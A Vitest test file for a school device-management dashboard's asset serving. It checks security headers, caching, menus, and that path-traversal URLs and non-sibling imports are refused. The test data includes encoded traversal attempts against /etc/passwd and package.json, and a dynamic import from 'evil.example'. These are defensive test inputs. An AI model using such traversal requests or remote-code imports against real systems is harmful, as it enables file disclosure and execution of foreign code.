import { readdirSync, readFileSync } from 'node:fs';
import { stripTypeScriptTypes } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  AssetCache,
  DASHBOARD_DIR,
  assertSiblingImports,
  siteHeader,
} from '../../../../server/routes/dashboard/assets.ts';
import { testEngines } from '../../../helpers/databases.ts';
import { startTestServer, type TestServer } from '../../../helpers/test-server.ts';

// Serving reads files, not the database: one engine is enough here.
const engine = testEngines[0];
if (engine === undefined) {
  throw new Error('no test engine');
}

const PAGES = [
  ['/', 'overview'],
  ['/sign-in', 'sign-in'],
  ['/devices', 'devices'],
  ['/devices/0b7f1c7e-2a0e-4f55-9d8e-6f0d3c1b2a90', 'device'],
  ['/tokens', 'tokens'],
  ['/audit', 'audit'],
  ['/people', 'people'],
  ['/alerts', 'alerts'],
  ['/accounts', 'accounts'],
  ['/schools', 'schools'],
] as const;

describe('dashboard pages and files', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer(engine);
  });
  afterAll(() => server.close());

  const get = (url: string, headers: Record<string, string> = {}) =>
    server.app.inject({ method: 'GET', url, headers });
  /** A served page with its shared header taken out, and its file with the marker taken out. */
  const withoutHeader = (served: string, name: string) => ({
    served: served.replace(/^ *<a class="skip"[\s\S]*?<\/header>\n/m, ''),
    file: readFileSync(`${DASHBOARD_DIR}/${name}.html`, 'utf8').replace(
      /^ *<!-- site-header current="[^"]*" -->\n/m,
      '',
    ),
  });

  it.each(PAGES)('serves %s as HTML with strict security headers', async (url, name) => {
    const response = await get(url);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/html; charset=utf-8');
    const { served, file } = withoutHeader(response.body, name);
    expect(served).toBe(file);
    expect(response.body.includes('<nav aria-label="Main">')).toBe(name !== 'sign-in');
    const csp = String(response.headers['content-security-policy']);
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).not.toContain('unsafe-eval');
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['referrer-policy']).toBe('same-origin');
    expect(response.headers['x-frame-options']).toBe('DENY');
  });

  it('serves a school’s page, and a 404 page in plain words for a malformed or unknown school', async () => {
    const known = await get(`/schools/${server.schoolId}`);
    expect(known.statusCode).toBe(200);
    const { served, file } = withoutHeader(known.body, 'school');
    expect(served).toBe(file);
    expect(String(known.headers['content-security-policy'])).toContain("script-src 'self'");
    for (const [url, words] of [
      ['/schools/not-a-school-id', 'This address does not name a school.'],
      ['/schools/0b7f1c7e-2a0e-4f55-9d8e-6f0d3c1b2a90', 'There is no school with this id.'],
    ] as const) {
      const response = await get(url);
      expect(response.statusCode, url).toBe(404);
      expect(response.headers['content-type'], url).toBe('text/html; charset=utf-8');
      expect(response.body, url).toContain(words);
      expect(response.body, url).toContain('<a href="/">Go to the dashboard</a>');
    }
  });

  it('pages hold no inline script, inline handler or inline style (the CSP would block them)', () => {
    for (const file of readdirSync(DASHBOARD_DIR).filter((f) => f.endsWith('.html'))) {
      const html = readFileSync(`${DASHBOARD_DIR}/${file}`, 'utf8');
      for (const script of html.matchAll(/<script\b[^>]*>/g)) {
        // Page scripts, or uPlot for the trend charts (served from its package).
        expect(script[0], file).toMatch(/ src="\/dashboard\/([a-z-]+\.ts|uplot\.js)"/);
      }
      expect(html, file).not.toMatch(/\son[a-z]+=/i);
      expect(html, file).not.toMatch(/\sstyle=|<style/i);
    }
  });

  it('every signed-in page has the same main menu, marking itself and nothing else current', async () => {
    const assets = new AssetCache();
    const files = readdirSync(DASHBOARD_DIR).filter(
      (f) => f.endsWith('.html') && f !== 'sign-in.html' && f !== 'site-header.html',
    );
    const menus = await Promise.all(
      files.map(async (file) => {
        // As the server sends it, with the shared header put in.
        const html = (await assets.get(file))?.body ?? '';
        expect(html, file).not.toContain('<!-- site-header');
        const nav = /<nav aria-label="Main">([\s\S]*?)<\/nav>/.exec(html)?.[1] ?? '';
        const links = [...nav.matchAll(/<a href="([^"]+)"( aria-current="page")?>([^<]+)<\/a>/g)];
        return { file, links };
      }),
    );
    const expected = [
      ['/', 'Overview'],
      ['/devices', 'Devices'],
      ['/chase', 'Chase list'],
      ['/usb', 'USB storage'],
      ['/aup', 'AUP register'],
      ['/people', 'Subject access'],
      ['/policies', 'Policies'],
      ['/schools', 'Schools'],
      ['/tokens', 'Enrolment tokens'],
      ['/accounts', 'Accounts'],
      ['/audit', 'Audit log'],
      ['/alerts', 'Alerts'],
    ];
    for (const { file, links } of menus) {
      expect(
        links.map((link) => [link[1], link[3]]),
        file,
      ).toEqual(expected);
      const current = links.filter((link) => link[2] !== undefined).map((link) => link[1]);
      expect(current.length, file).toBeLessThanOrEqual(1);
    }
    const currentOf = (name: string) =>
      menus.find((m) => m.file === name)?.links.find((link) => link[2] !== undefined)?.[1];
    expect(currentOf('tokens.html')).toBe('/tokens');
    expect(currentOf('audit.html')).toBe('/audit');
    expect(currentOf('alerts.html')).toBe('/alerts');
    expect(currentOf('policies.html')).toBe('/policies');
    expect(currentOf('accounts.html')).toBe('/accounts');
    expect(currentOf('schools.html')).toBe('/schools');
    expect(currentOf('people.html')).toBe('/people');
  });

  it('a page naming a menu link the shared header lacks is a bug, said at once', () => {
    const fragment = '<nav>\n  <a href="/">Overview</a>\n</nav>\n';
    expect(siteHeader('x.html', fragment, '  ', '/')).toBe(
      '  <nav>\n    <a href="/" aria-current="page">Overview</a>\n  </nav>',
    );
    expect(() => siteHeader('x.html', fragment, '', '/nowhere')).toThrow(
      'ui/dashboard/x.html: the site header has no link to /nowhere',
    );
  });

  it('serves uPlot, the trend charts’ library, from its installed package', async () => {
    const script = await get('/dashboard/uplot.js');
    expect(script.statusCode).toBe(200);
    expect(script.headers['content-type']).toBe('text/javascript; charset=utf-8');
    expect(script.body).toBe(
      readFileSync(new URL(import.meta.resolve('uplot/dist/uPlot.iife.min.js')), 'utf8'),
    );
    const style = await get('/dashboard/uplot.css');
    expect(style.headers['content-type']).toBe('text/css; charset=utf-8');
    // Only these two names reach the package folder.
    expect((await get('/dashboard/uPlot.esm.js')).statusCode).toBe(404);
    expect((await get('/dashboard/other.js')).statusCode).toBe(404);
  });

  it('serves page scripts as JavaScript with the types stripped, and every import resolves', async () => {
    const scripts = readdirSync(DASHBOARD_DIR).filter((f) => f.endsWith('.ts'));
    expect(scripts).toContain('overview.ts');
    for (const file of scripts) {
      const response = await get(`/dashboard/${file}`);
      expect(response.statusCode, file).toBe(200);
      expect(response.headers['content-type']).toBe('text/javascript; charset=utf-8');
      expect(response.headers['content-security-policy']).toContain("default-src 'self'");
      const source = readFileSync(`${DASHBOARD_DIR}/${file}`, 'utf8');
      expect(response.body).toBe(stripTypeScriptTypes(source, { mode: 'strip' }));
      // Type-only imports from shared/ are gone: the browser fetches siblings only.
      expect(response.body).not.toContain('shared/');
      for (const match of response.body.matchAll(/from '(\.\/[a-z-]+\.ts)'/g)) {
        const imported = await get(`/dashboard/${String(match[1]).slice(2)}`);
        expect(imported.statusCode, `${file} imports ${String(match[1])}`).toBe(200);
      }
    }
  });

  it('serves the stylesheet and the icon with their types', async () => {
    const css = await get('/dashboard/style.css');
    expect(css.statusCode).toBe(200);
    expect(css.headers['content-type']).toBe('text/css; charset=utf-8');
    const icon = await get('/dashboard/favicon.svg');
    expect(icon.headers['content-type']).toBe('image/svg+xml');
  });

  it('answers 304 to a browser that already holds the file', async () => {
    const first = await get('/dashboard/api.ts');
    const etag = String(first.headers.etag);
    expect(etag).toMatch(/^"[\w-]+"$/);
    const again = await get('/dashboard/api.ts', { 'if-none-match': etag });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
  });

  it.each([
    '/dashboard/..%2f..%2fpackage.json',
    '/dashboard/%2e%2e%2fserver%2fapp.ts',
    '/dashboard/..%5c..%5cpackage.json',
    '/dashboard/../../package.json',
    '/dashboard/....%2f....%2fpackage.json',
    '/dashboard/%2fetc%2fpasswd',
    '/dashboard/api.ts%00.css',
    '/dashboard/.%2fapi.ts',
    '/dashboard/API.TS',
    '/dashboard/sign-in.html',
    '/dashboard/tsconfig.json',
    '/dashboard/missing.ts',
    '/dashboard/',
    '/devices/..%2f..%2fpackage.json',
    '/devices/not-a-device-id',
  ])('never serves anything outside the dashboard files: %s → 404', async (url) => {
    const response = await get(url);
    expect(response.statusCode).toBe(404);
    expect(response.body).not.toContain('"name": "hallpass"');
    expect(response.body).not.toContain('buildApp');
    expect(response.body).not.toContain('root:');
  });

  it('the cache never reads outside its folder, even when asked directly', async () => {
    const cache = new AssetCache();
    for (const name of ['../package.json', '..', '/etc/passwd', 'a/../../x.ts', '.hidden.ts']) {
      expect(await cache.get(name)).toBeNull();
    }
    expect(await cache.get('api.ts')).not.toBeNull();
  });

  it('refuses to serve a script that would import anything but a sibling script', () => {
    expect(() => {
      assertSiblingImports('x.ts', "import { a } from './api.ts';\nimport './dom.ts';");
    }).not.toThrow();
    for (const bad of [
      "import { Type } from '../../shared/index.ts';",
      "import {  } from '../../shared/schemas/ict-api.ts';",
      "export * from 'typebox';",
      "const m = import('https://evil.example/x.js');",
    ]) {
      expect(() => {
        assertSiblingImports('x.ts', bad);
      }, bad).toThrow(/only \.\/<name>\.ts/);
    }
  });
});
